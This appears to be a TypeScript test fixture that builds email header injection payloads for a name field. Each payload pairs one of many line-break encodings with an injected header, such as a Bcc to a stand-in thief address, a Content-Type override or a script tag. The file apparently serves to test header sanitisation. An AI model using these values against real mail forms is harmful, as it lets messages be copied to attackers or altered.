/** What is typed as a name, and would begin a line of its own. */
const breaks = [
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
  '\n\t',
  '\u2028',
  '\u0085',
  '\u000b',
  '\0\n',
  '%0d%0a',
  '=?utf-8?Q?=0D=0A?=',
  '嘊嘍',
];
const lines = [
  'Bcc: thief@evil.example',
  'X-Injected: 1',
  'Subject: other',
  'Content-Type: text/html',
  '\r\n<script>hit()</script>',
];

export const headerInjections: readonly string[] = breaks.flatMap((end) => lines.map((line) => `公告${end}${line}`));
